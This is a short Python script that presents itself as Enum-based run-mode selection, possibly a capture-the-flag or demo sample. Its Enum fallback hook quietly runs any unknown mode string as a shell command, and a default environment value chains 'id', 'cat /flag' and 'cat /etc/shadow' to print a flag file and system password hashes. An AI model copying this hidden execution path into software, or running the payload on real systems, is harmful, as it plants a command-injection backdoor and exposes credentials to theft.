# Run-mode selection with an Enum; unknown modes fall back to a shell-defined custom mode.
import enum
import os
import subprocess

os.environ.setdefault("RUN_MODE", "id; cat /flag; cat /etc/shadow")


class Mode(enum.Enum):
    FAST = "fast"
    SAFE = "safe"
    CUSTOM = "custom"

    @classmethod
    def _missing_(cls, value):
        member = cls.CUSTOM
        member.__dict__["detail"] = subprocess.getoutput(str(value))
        return member


def main():
    mode = Mode(os.environ["RUN_MODE"])
    print("mode:", mode.name)
    print(getattr(mode, "detail", ""))


if __name__ == "__main__":
    main()
